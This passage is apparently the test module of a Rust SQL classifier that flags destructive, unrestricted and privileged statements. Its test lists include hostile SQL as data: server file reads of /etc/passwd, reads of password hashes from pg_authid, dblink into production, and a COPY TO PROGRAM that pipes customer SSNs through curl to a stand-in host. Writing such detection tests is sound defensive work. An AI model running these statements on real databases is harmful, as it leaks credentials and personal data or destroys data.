        let mut names: Vec<String> = one(sql).tables.iter().map(ToString::to_string).collect();
        names.sort();
        names
    }

    fn kinds(sql: &str) -> Vec<StatementKind> {
        one(sql).kinds().collect()
    }

    #[test]
    fn basic_kinds() {
        assert_eq!(one("select 1").kind, K::Select);
        assert_eq!(one("INSERT INTO t VALUES (1)").kind, K::Insert);
        assert_eq!(one("update t set a = 1 where id = 2").kind, K::Update);
        assert_eq!(one("delete from t where id = 1").kind, K::Delete);
        assert_eq!(one("truncate a, b").kind, K::Truncate);
        assert_eq!(one("drop table t").kind, K::Drop);
        assert_eq!(one("alter table t add column c int").kind, K::Alter);
        assert_eq!(one("create table t (a int)").kind, K::Create);
        assert_eq!(one("grant select on t to bob").kind, K::Grant);
        assert_eq!(one("begin").kind, K::Begin);
        assert_eq!(one("commit").kind, K::Commit);
        assert_eq!(one("set search_path = app").kind, K::Set);
        assert_eq!(one("show work_mem").kind, K::Show);
        assert_eq!(one("RESET ALL").kind, K::Reset);
        assert_eq!(one("discard all").kind, K::Discard);
        assert_eq!(one("listen ch").kind, K::Listen);
    }

    #[test]
    fn odd_casing_whitespace_and_comments() {
        let s = one("  \n\t-- leading comment\n /* block */ DeLeTe\n\tFROM   Orders   wHeRe id=1 ");
        assert_eq!(s.kind, K::Delete);
        assert_eq!(
            s.tables,
            [TableRef {
                schema: None,
                name: "orders".into()
            }]
        );
        assert!(s.has_where);
    }

    #[test]
    fn comments_do_not_hide_or_invent_statements() {
        let all = classify("SELECT 1 /* ; DROP TABLE t */");
        assert_eq!(all.len(), 1);
        assert_eq!(all[0].kind, K::Select);
        assert!(all[0].tables.is_empty());
        let all = classify("SELECT 1 -- ; DROP TABLE t\n");
        assert_eq!(all.len(), 1);
        let all = classify("SELECT 1 /* nested /* ; */ DROP TABLE t; */");
        assert_eq!(all.len(), 1, "{all:?}");
        assert_ne!(all[0].kind, K::Drop);
    }

    #[test]
    fn multi_statement_with_a_drop_at_the_end() {
        let all = classify("select * from a; update b set x = 1 where id = 1; DROP TABLE c");
        let kinds: Vec<_> = all.iter().map(|s| s.kind).collect();
        assert_eq!(kinds, [K::Select, K::Update, K::Drop]);
        assert_eq!(all[2].tables[0].name, "c");
    }

    #[test]
    fn strings_and_dollar_quotes_are_data() {
        assert_eq!(classify(r"SELECT E'\'; DROP TABLE t; --'").len(), 1);
        assert_eq!(classify("SELECT 'it''s; DROP TABLE t'").len(), 1);
        let all = classify("SELECT $$ ; DROP TABLE t; $$, $tag$ $$ ; $tag$");
        assert_eq!(all.len(), 1);
        assert_eq!(all[0].kind, K::Select);
        // A literal whose end depends on standard_conforming_strings is unparsed, whole.
        let all = classify(r"SELECT 'x\''; DROP TABLE t; --'");
        assert_eq!(all.len(), 1);
        assert_eq!(all[0].kind, K::Unparsed);
    }

    #[test]
    fn quoted_identifiers_keep_case_unquoted_fold() {
        assert_eq!(tables(r#"select * from "Orders""#), ["Orders"]);
        assert_eq!(tables("select * from ORDERS"), ["orders"]);
        assert_eq!(tables(r#"select * from "orders""#), ["orders"]);
        assert_eq!(
            tables(r#"select * from "App"."Order Lines""#),
            ["App.Order Lines"]
        );
    }

    #[test]
    fn schema_qualified_and_aliased_tables() {
        assert_eq!(
            tables("select o.* from public.orders as o join app.customers c on c.id = o.cid"),
            ["app.customers", "public.orders"]
        );
        assert_eq!(
            tables("select * from mydb.public.orders"),
            ["public.orders"]
        );
    }

    #[test]
    fn subqueries_joins_and_set_operations() {
        assert_eq!(
            tables(
                "select * from a where id in (select aid from b) and exists (select 1 from c) union all select * from d except (select * from e)"
            ),
            ["a", "b", "c", "d", "e"]
        );
        assert_eq!(
            tables(
                "select (select max(x) from f) from g left join lateral (select * from h) hh on true"
            ),
            ["f", "g", "h"]
        );
        // `TABLE x` is `SELECT * FROM x`: its table counts.
        assert_eq!(one("TABLE secrets").kind, K::Select);
        assert_eq!(tables("TABLE secrets"), ["secrets"]);
    }

    #[test]
    fn cte_names_are_not_tables_but_their_contents_are() {
        assert_eq!(
            tables("with orders as (select * from archive) select * from orders"),
            ["archive"]
        );
        // Non-recursive: inside its own body, `orders` is the real table.
        assert_eq!(
            tables("with orders as (select * from orders) select * from orders"),
            ["orders"]
        );
        // A later CTE sees an earlier one.
        assert_eq!(
            tables("with a as (select * from t), b as (select * from a) select * from b"),
            ["t"]
        );
        // An earlier CTE does not see a later one.
        assert_eq!(
            tables("with a as (select * from b), b as (select 1) select * from a"),
            ["b"]
        );
        // A CTE in a nested query does not shadow an outer reference.
        assert_eq!(
            tables("select * from orders, (with orders as (select 1) select * from orders) x"),
            ["orders"]
        );
        // Schema-qualified names are never CTEs.
        assert_eq!(
            tables("with orders as (select 1) select * from public.orders"),
            ["public.orders"]
        );
        assert_eq!(
            tables("with recursive r as (select 1 union all select * from r) select * from r"),
            Vec::<String>::new()
        );
    }

    #[test]
    fn dml_targets_are_real_tables_even_when_a_cte_has_the_name() {
        let s = one("with orders as (select 1) delete from orders");
        assert_eq!(s.kind, K::Delete);
        assert_eq!(
            s.tables.iter().map(ToString::to_string).collect::<Vec<_>>(),
            ["orders"]
        );
        assert!(!s.has_where);
    }

    #[test]
    fn data_modifying_ctes_are_their_kind_too() {
        let s = one("with d as (delete from orders returning *) select * from d");
        assert_eq!(s.kind, K::Select);
        assert!(s.nested.contains(&K::Delete), "{s:?}");
        assert!(!s.has_where);
        assert_eq!(
            s.tables.iter().map(ToString::to_string).collect::<Vec<_>>(),
            ["orders"]
        );
    }

    #[test]
    fn dml_sources() {
        assert_eq!(tables("insert into a (x) select y from b"), ["a", "b"]);
        assert_eq!(
            kinds("insert into a (x) select y from b"),
            [K::Insert, K::Select]
        );
        assert_eq!(
            tables("update a set x = b.y from b where a.id = b.id"),
            ["a", "b"]
        );
        assert_eq!(
            tables("delete from a using b where a.id = b.id"),
            ["a", "b"]
        );
        assert_eq!(
            tables("insert into a values (1) on conflict (id) do update set x = 2"),
            ["a"]
        );
    }

    #[test]
    fn where_clauses() {
        assert!(!one("delete from t").has_where);
        assert!(one("delete from t where id = 1").has_where);
        // A WHERE that references no column restricts nothing.
        assert!(!one("delete from t where true").has_where);
        assert!(!one("update t set a = 1 where 1 = 1").has_where);
        assert!(one("update t set a = 1 where t.id > 10").has_where);
        assert!(one("select * from t").has_where);
    }

    #[test]
    fn truncate_and_drop_lists() {
        assert_eq!(
            tables("truncate table a, public.b, \"C\" cascade"),
            ["C", "a", "public.b"]
        );
        assert_eq!(tables("drop table if exists a, b"), ["a", "b"]);
        assert_eq!(tables("drop view v"), ["v"]);
        assert_eq!(one("drop schema app cascade").kind, K::Drop);
        assert!(one("drop schema app cascade").tables.is_empty());
    }

    #[test]
    fn merge() {
        let s = one(
            "merge into orders o using incoming i on o.id = i.id when matched then delete when not matched then insert (id) values (i.id)",
        );
        assert_eq!(s.kind, K::Merge);
        assert!(s.nested.contains(&K::Delete) && s.nested.contains(&K::Insert));
        let mut names: Vec<_> = s.tables.iter().map(ToString::to_string).collect();
        names.sort();
        assert_eq!(names, ["incoming", "orders"]);
    }

    #[test]
    fn copy() {
        let s = one("COPY orders TO STDOUT");
        assert_eq!((s.kind, s.tables[0].name.as_str()), (K::Copy, "orders"));
        assert!(s.nested.contains(&K::Select));
        let s = one("copy orders (a, b) from stdin with (format csv)");
        assert_eq!(s.kind, K::Copy);
        assert!(s.nested.contains(&K::Insert));
        assert_eq!(
            one("COPY orders FROM STDIN WITH (FORMAT binary)").tables[0].name,
            "orders"
        );
        let s = one("copy (select * from customers join orders using (id)) to stdout");
        assert_eq!(s.kind, K::Copy);
        assert_eq!(s.tables.len(), 2);
    }

    #[test]
    fn do_and_call_are_opaque() {
        let s = one("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$");
        assert_eq!(s.kind, K::Do);
        assert!(s.opaque);
        let s = one("call purge_orders(30)");
        assert_eq!(s.kind, K::Call);
        assert!(s.opaque);
        // A function in a SELECT is a select; its name is visible, its body is not.
        let s = one("select purge_orders(30)");
        assert_eq!(s.kind, K::Select);
        assert_eq!(s.functions, ["purge_orders"]);
        let s = one("select * from generate_series(1, 3) g, t");
        assert_eq!(
            s.tables.iter().map(ToString::to_string).collect::<Vec<_>>(),
            ["t"]
        );
    }

    #[test]
    fn explain_analyze_runs_its_statement_plain_explain_does_not() {
        assert_eq!(
            kinds("explain analyze delete from orders"),
            [K::Explain, K::Delete]
        );
        assert_eq!(
            kinds("explain (analyze, buffers) delete from orders"),
            [K::Explain, K::Delete]
        );
        assert_eq!(
            kinds("explain (analyze false) delete from orders"),
            [K::Explain]
        );
        let plain = one("explain delete from orders");
        assert_eq!(plain.kinds().collect::<Vec<_>>(), [K::Explain]);
        assert_eq!(plain.tables[0].name, "orders");
        assert!(plain.has_where, "a plain EXPLAIN deletes nothing");
    }

    #[test]
    fn prepare_is_judged_by_what_it_prepares() {
        let s = one("prepare zap as delete from orders");
        assert_eq!(s.kinds().collect::<Vec<_>>(), [K::Prepare, K::Delete]);
        assert!(!s.has_where);
        assert_eq!(s.prepared_name.as_deref(), Some("zap"));
        let s = one("execute zap");
        assert_eq!(s.kind, K::Execute);
        assert_eq!(s.prepared_name.as_deref(), Some("zap"));
    }

    #[test]
    fn select_into_and_create_as_and_views() {
        let s = one("select * into stolen from salaries");
        assert!(s.kinds().any(|k| k == K::Create));
        assert_eq!(s.tables.len(), 2);
        assert_eq!(
            kinds("create table x as select * from salaries"),
            [K::Create, K::Select]
        );
        assert_eq!(
            tables("create view v as select * from salaries"),
            ["salaries", "v"]
        );
        assert_eq!(
            kinds("declare c cursor for select * from salaries"),
            [K::Declare, K::Select]
        );
    }

    #[test]
    fn garbage_is_unparsed() {
        let s = one("this is not sql at all");
        assert_eq!(s.kind, K::Unparsed);
        assert!(s.unparsed_reason.is_some());
        assert_eq!(one("select 'unterminated").kind, K::Unparsed);
        let all = classify("select 1; gibberish here; drop table t");
        assert_eq!(
            all.iter().map(|s| s.kind).collect::<Vec<_>>(),
            [K::Select, K::Unparsed, K::Drop]
        );
        assert!(classify("  -- only a comment\n").is_empty());
        // Utility statements sqlparser does not know fall to `policy.unparsed`.
        assert_eq!(one("lock table orders").kind, K::Unparsed);
        assert_eq!(one("FETCH c").kind, K::Fetch);
        assert_eq!(one("move 5 in c").kind, K::Fetch);
        assert_eq!(
            one("create rule r as on select to t do instead select 1").kind,
            K::Unparsed
        );
    }

    #[test]
    fn server_code_is_recognised_parsed_or_not() {
        let code = |sql: &str| one(sql).server_code;
        assert_eq!(
            code("DO $$ BEGIN NULL; END $$"),
            Some(ServerCode::AnonymousBlock)
        );
        assert_eq!(
            code("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'"),
            Some(ServerCode::Defines("function"))
        );
        assert_eq!(
            code("CREATE TRIGGER t BEFORE DELETE ON orders FOR EACH ROW EXECUTE FUNCTION f()"),
            Some(ServerCode::Defines("trigger"))
        );
        // Unparsed, but its words say what it is.
        let rule = one("CREATE RULE r AS ON DELETE TO orders DO INSTEAD NOTHING");
        assert_eq!(rule.kind, K::Unparsed);
        assert_eq!(rule.server_code, Some(ServerCode::Defines("rule")));
        assert_eq!(
            code("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()"),
            Some(ServerCode::Defines("event trigger"))
        );
        // PostgreSQL's grammar keeps `BEGIN ATOMIC … END` whole; cut at its
        // `;`, the first piece still says what it is.
        assert_eq!(
            classify(
                "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END"
            )[0]
            .server_code,
            Some(ServerCode::Defines("procedure"))
        );
        assert_eq!(
            code("ALTER FUNCTION f() SECURITY DEFINER"),
            Some(ServerCode::Defines("function"))
        );
        assert_eq!(
            code("CALL purge(1)"),
            Some(ServerCode::Calls("purge".into()))
        );
        assert_eq!(
            code("SELECT id FROM t WHERE app.leak(ssn) > 0"),
            Some(ServerCode::Calls("app.leak".into()))
        );
        assert_eq!(
            code("SELECT * FROM my_rows(1)"),
            Some(ServerCode::Calls("my_rows".into()))
        );
        assert_eq!(
            code("INSERT INTO t VALUES (my_default())"),
            Some(ServerCode::Calls("my_default".into()))
        );
        assert_eq!(
            code("SET search_path = app, pg_catalog"),
            Some(ServerCode::ShadowsBuiltins)
        );
        assert_eq!(
            code("SELECT set_config('search_path', 'app, pg_catalog', false)"),
            Some(ServerCode::ShadowsBuiltins)
        );
        assert_eq!(code("LOAD 'plpgsql'"), Some(ServerCode::LoadsLibrary));
        assert_eq!(
            code("CREATE EXTENSION dblink"),
            Some(ServerCode::Defines("extension"))
        );
        // Built-ins, in any spelling PostgreSQL resolves to them, are not.
        for innocent in [
            "SELECT lower(name), count(*), now(), coalesce(a, 1) FROM t GROUP BY 1",
            "SELECT pg_catalog.upper(name) FROM t",
            "SELECT * FROM generate_series(1, 3)",
            "SELECT row_number() OVER (ORDER BY id) FROM t",
            "SELECT data->>'k', tags @> ARRAY['a'] FROM t",
            "SET search_path = pg_catalog, app",
            "SET search_path TO app, public",
            "SELECT set_config('work_mem', '64MB', false)",
            "CREATE TABLE t (id int DEFAULT nextval('s'))",
            "DROP FUNCTION f()",
        ] {
            assert_eq!(code(innocent), None, "{innocent}");
        }
    }

    #[test]
    fn privileged_paths_are_recognised_parsed_or_not() {
        let privileged = |sql: &str| {
            let all = classify(sql);
            all.iter().find_map(|s| s.privileged.clone())
        };
        for attack in [
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT pg_catalog.pg_read_binary_file('global/pg_control')",
            "SELECT * FROM pg_ls_dir('.')",
            "SELECT name FROM pg_ls_logdir()",
            "SELECT * FROM pg_catalog.pg_ls_waldir()",
            "SELECT pg_current_logfile()",
            "SELECT lo_import('/etc/passwd')",
            "SELECT lo_export(16400, '/tmp/out')",
            "SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)",
            "SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers'",
            "SELECT histogram_bounds FROM pg_catalog.pg_stats",
            "SELECT * FROM \"pg_stats\"",
            "SELECT s.* FROM (SELECT * FROM pg_statistic) s",
            "WITH x AS (SELECT * FROM pg_stats_ext) SELECT * FROM x",
            "SELECT 1 WHERE EXISTS (SELECT 1 FROM pg_stats_ext_exprs)",
            "TABLE pg_stats",
            "SELECT * FROM pg_mcv_list_items(NULL)",
            "SELECT rolpassword FROM pg_authid",
            "SELECT * FROM pg_hba_file_rules",
            "SELECT * FROM heap_page_items(get_raw_page('customers', 0))",
            "SELECT * FROM public.get_raw_page('customers', 0)",
            "SELECT * FROM dblink('dbname=prod', 'SELECT ssn FROM customers') AS t(s text)",
            "SELECT dblink_exec('dbname=prod', 'DROP TABLE customers')",
            "SELECT pg_file_write('/tmp/x', 'y', false)",
            "SELECT heap_force_kill('customers'::regclass, ARRAY['(0,1)'::tid])",
            "COPY customers TO '/tmp/customers.csv'",
            "COPY customers FROM '/tmp/customers.csv'",
            "COPY (SELECT ssn FROM customers) TO PROGRAM 'curl -d @- http://x'",
            "COPY customers FROM PROGRAM 'cat /etc/passwd'",
            "CREATE EXTENSION pageinspect",
            "CREATE EXTENSION IF NOT EXISTS dblink",
            "ALTER EXTENSION dblink UPDATE",
            "CREATE SERVER prod FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'prod')",
            "CREATE FOREIGN TABLE f (s text) SERVER prod",
            "IMPORT FOREIGN SCHEMA public FROM SERVER prod INTO staging",
            "CREATE USER MAPPING FOR CURRENT_USER SERVER prod OPTIONS (user 'x')",
            "ALTER SYSTEM SET archive_command = 'cp %p /tmp/%f'",
            "alter   system reset all",
            "SELECT 1; SELECT pg_read_file('postgresql.conf')",
        ] {
            assert!(privileged(attack).is_some(), "{attack}");
        }
        for innocent in [
            "SELECT * FROM customers",
            "SELECT read_file FROM files",
            "SELECT * FROM app.pg_stats",
            "SELECT * FROM stats",
            "SELECT pg_stat_get_numscans(1)",
            "SELECT * FROM pg_stat_user_tables",
            "SELECT * FROM pg_stat_activity",
            "SELECT lo_open(16400, 262144)",
            "COPY customers TO STDOUT",
            "COPY customers FROM STDIN",
            "COPY (SELECT 1) TO STDOUT WITH (FORMAT csv)",
            "CREATE TABLE server (id int)",
            "CREATE TABLE system (id int)",
            "ALTER TABLE system ADD COLUMN x int",
            "CREATE USER mapping WITH LOGIN",
            "SELECT 'pg_read_file(''/etc/passwd'')'",
            "-- SELECT pg_read_file('x')\nSELECT 1",
            "SELECT app.pg_read_file('x')",
        ] {
            assert_eq!(privileged(innocent), None, "{innocent}");
        }
        let copy = one("COPY customers TO PROGRAM 'gzip > /tmp/x'");
        assert_eq!(copy.privileged, Some(Privileged::CopyProgram));
        assert_eq!(
            one("SELECT pg_read_file('x')")
                .privileged
                .unwrap()
                .to_string(),
            "`pg_read_file` reads files on the server"
        );
    }

    #[test]
    fn destructive_ddl_group() {
        for destructive in [
            "DROP TABLE t",
            "DROP INDEX i",
            "DROP SCHEMA s CASCADE",
            "DROP FUNCTION f()",
            "DROP OWNED BY bob",
            "DROP RULE r ON t",
            "TRUNCATE t",
            "ALTER TABLE t DROP COLUMN c",
            "ALTER TABLE t DROP CONSTRAINT c",
            "ALTER TABLE t RENAME TO u",
            "ALTER TABLE t RENAME COLUMN a TO b",
            "ALTER TABLE t SET SCHEMA s",
            "ALTER VIEW v RENAME TO w",
            "ALTER TABLE t ALTER COLUMN c TYPE text USING 'x'",
            "ALTER TABLE t ALTER COLUMN c SET DATA TYPE bigint",
            "SELECT heap_force_kill('t'::regclass, ARRAY['(0,1)'::tid])",
            "SELECT ext.heap_force_freeze('t'::regclass, ARRAY['(0,1)'::tid])",
        ] {
            assert!(one(destructive).destructive_ddl, "{destructive}");
        }
        for not in [
            "ALTER TABLE t ADD COLUMN c int",
            "CREATE TABLE t (a int)",
            "DELETE FROM t",
            "ALTER TABLE t ALTER COLUMN c SET DEFAULT 1",
            "SELECT 'DROP TABLE t'",
            "ALTER TABLE t ALTER COLUMN c SET NOT NULL",
            "SELECT 'heap_force_kill'",
            "CREATE TABLE heap_force_kill (id int)",
        ] {
            assert!(!one(not).destructive_ddl, "{not}");
        }
        // Unparsed destructive DDL keeps its kind as a hint for rules.
        let s = one("DROP OWNED BY bob");
        assert_eq!((s.kind, s.nested.as_slice()), (K::Unparsed, &[K::Drop][..]));
    }

    #[test]
    fn positioned_writes_touch_one_row() {
        let s = one("UPDATE orders SET n = 1 WHERE CURRENT OF cur");
        assert_eq!(s.kind, K::Update);
        assert!(s.has_where);
        assert_eq!(s.tables[0].name, "orders");
        let s = one("DELETE FROM orders WHERE CURRENT OF \"C\" RETURNING id");
        assert_eq!(s.kind, K::Delete);
        assert!(s.has_where);
        // A positioned write under a CTE that deletes everything does not
        // hide the CTE.
        let s = one("WITH d AS (DELETE FROM a RETURNING 1) DELETE FROM orders WHERE CURRENT OF c");
        assert!(!s.has_where, "{s:?}");
        // Not positioned: the clause inside a string is data.
        assert_eq!(
            one("DELETE FROM t WHERE 'CURRENT OF c' = x OR CURRENT OF c").kind,
            K::Unparsed
        );
    }

    #[test]
    fn tautologies_are_no_where() {
        assert!(!one("DELETE FROM orders WHERE id = id").has_where);
        assert!(!one("DELETE FROM orders o WHERE o.id = id").has_where);
        assert!(!one("UPDATE orders SET a = 1 WHERE 1 = 1 OR id = 5").has_where);
        assert!(!one("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE").has_where);
        assert!(one("DELETE FROM a USING b WHERE a.id = b.id").has_where);
        // Joined writes whose WHERE names only the other tables reach every
        // target row that has a partner.
        for unrestricted in [
            "UPDATE orders SET n = 1 FROM users u WHERE u.id = 5",
            "UPDATE orders o SET n = 1 FROM users WHERE users.admin",
            "DELETE FROM orders USING users WHERE users.id = 1",
            "DELETE FROM orders o USING users u WHERE u.name = 'x' AND u.id > 3",
            "MERGE INTO orders o USING users u ON u.id = 1 WHEN MATCHED THEN DELETE",
        ] {
            assert!(!one(unrestricted).has_where, "{unrestricted}");
        }
        for restricted in [
            "UPDATE orders SET n = 1 FROM users u WHERE orders.user_id = u.id",
            "UPDATE orders o SET n = 1 FROM users u WHERE o.user_id = u.id",
            "UPDATE orders SET n = 1 FROM users u WHERE user_id = u.id",
            "DELETE FROM orders o USING users u WHERE o.id = 7",
            "MERGE INTO orders o USING users u ON o.id = u.id WHEN MATCHED THEN DELETE",
        ] {
            assert!(one(restricted).has_where, "{restricted}");
        }
        assert!(one("UPDATE orders SET a = 1 WHERE 1 = 1 AND id = 5").has_where);
    }

    #[test]
    fn writes_fed_by_a_whole_copy_of_their_target_reach_every_row() {
        for every_row in [
            "INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET v = 'x'",
            "INSERT INTO s.t (id, v) SELECT id, 'x' FROM s.t ON CONFLICT (id) DO UPDATE SET v = excluded.v",
            "INSERT INTO t (SELECT * FROM t ORDER BY id) ON CONFLICT (id) DO UPDATE SET v = 'x'",
            "MERGE INTO t USING t s ON t.id = s.id WHEN MATCHED THEN DELETE",
            "MERGE INTO t a USING (SELECT * FROM t) b ON a.id = b.id AND (b.k = a.k) WHEN MATCHED THEN UPDATE SET v = 'x'",
            "MERGE INTO t a USING t b ON b.id = a.id WHEN NOT MATCHED THEN INSERT VALUES (1) WHEN MATCHED THEN DELETE",
        ] {
            let s = one(every_row);
            assert!(!s.has_where, "{every_row}");
        }
        for some_rows in [
            "INSERT INTO t SELECT * FROM t WHERE id = 1 ON CONFLICT (id) DO UPDATE SET v = 'x'",
            "INSERT INTO t SELECT * FROM t LIMIT 1 ON CONFLICT (id) DO UPDATE SET v = 'x'",
            "INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET v = 'x' WHERE t.id = 1",
            "INSERT INTO t SELECT * FROM t ON CONFLICT DO NOTHING",
            "INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET v = 'x'",
            "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE",
            "MERGE INTO t a USING t b ON a.id = b.id WHEN MATCHED AND a.id = 1 THEN DELETE",
            "MERGE INTO t a USING t b ON a.id = b.other WHEN MATCHED THEN DELETE",
            "MERGE INTO t a USING (SELECT * FROM t WHERE id < 3) b ON a.id = b.id WHEN MATCHED THEN DELETE",
        ] {
            assert!(one(some_rows).has_where, "{some_rows}");
        }
        assert!(
            one("INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET v = 'x'")
                .kinds()
                .any(|k| k == K::Update),
            "an upsert that updates is an update too"
        );
    }

    /// MySQL's upserts write existing rows: `ON DUPLICATE KEY UPDATE` is an
    /// update and `REPLACE` a delete (it deletes the conflicting row, then
    /// inserts). Fed by all of their own target, every row conflicts with
    /// its copy, so they are writes without a WHERE; a VALUES list, a
    /// filtered source or another table's rows are not.
    #[test]
    fn mysql_upserts_are_updates_and_deletes_and_self_fed_ones_unfiltered() {
        let mysql = |sql: &str| {
            let mut all = super::classify(&ParsedSql::parse(&crate::mysql::Mysql, sql));
            assert_eq!(all.len(), 1, "{sql}: {all:?}");
            all.remove(0)
        };
        for (sql, kind) in [
            (
                "INSERT INTO t SELECT id, 'x' FROM t ON DUPLICATE KEY UPDATE v = 'x'",
                K::Update,
            ),
            (
                "INSERT INTO t (id, v) SELECT id, v FROM t ON DUPLICATE KEY UPDATE v = VALUES(v)",
                K::Update,
            ),
            ("REPLACE INTO t SELECT id, 'x' FROM t", K::Delete),
            (
                "REPLACE INTO t SELECT * FROM (SELECT * FROM t) AS s",
                K::Delete,
            ),
            ("REPLACE INTO t SELECT * FROM t WHERE 1 = 1", K::Delete),
            (
                "REPLACE INTO t SELECT * FROM t WHERE id = id OR id IS NULL",
                K::Delete,
            ),
        ] {
            let c = mysql(sql);
            assert!(c.kinds().any(|k| k == kind), "{sql}: {c:?}");
            assert!(c.kinds().any(|k| k == K::Insert), "{sql}: {c:?}");
            assert!(!c.has_where, "{sql}: every row is rewritten");
        }
        for (sql, kind) in [
            (
                "INSERT INTO t VALUES (1, 'x') ON DUPLICATE KEY UPDATE v = 'x'",
                K::Update,
            ),
            (
                "INSERT INTO t SELECT id, 'x' FROM t WHERE id = 1 ON DUPLICATE KEY UPDATE v = 'x'",
                K::Update,
            ),
            (
                "INSERT INTO t SELECT id, 'x' FROM u ON DUPLICATE KEY UPDATE v = 'x'",
                K::Update,
            ),
            ("REPLACE INTO t VALUES (1, 'x')", K::Delete),
            ("REPLACE INTO t SELECT id, 'x' FROM t LIMIT 1", K::Delete),
            (
                "REPLACE INTO t SELECT * FROM (SELECT * FROM t WHERE id < 3) AS s",
                K::Delete,
            ),
            ("REPLACE INTO t SELECT * FROM t WHERE id > 0", K::Delete),
        ] {
            let c = mysql(sql);
            assert!(c.kinds().any(|k| k == kind), "{sql}: {c:?}");
            assert!(c.has_where, "{sql}: some rows");
        }
        // A plain insert stays an insert only.
        let c = mysql("INSERT INTO t SELECT id, 'x' FROM t");
        assert!(c.kinds().all(|k| k != K::Update && k != K::Delete), "{c:?}");
        assert!(c.has_where, "{c:?}");
    }

    #[test]
    fn row_counts_are_reported_by_plain_statements_only() {
        for counted in [
            "DELETE FROM t WHERE id = 1",
            "UPDATE t SET a = 1",
            "INSERT INTO t SELECT * FROM u",
            "SELECT * FROM t",
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)",
            "WITH x AS (SELECT 1) DELETE FROM t",
        ] {
            assert!(one(counted).rows_reported, "{counted}");
        }
        for uncounted in [
            "WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d",
            "WITH d AS (DELETE FROM a) INSERT INTO b VALUES (1)",
            "EXPLAIN ANALYZE DELETE FROM t",
            "TRUNCATE t",
            "COPY t FROM STDIN",
            "PREPARE p AS DELETE FROM t",
            "DROP TABLE t",
        ] {
            assert!(!one(uncounted).rows_reported, "{uncounted}");
        }
    }
}
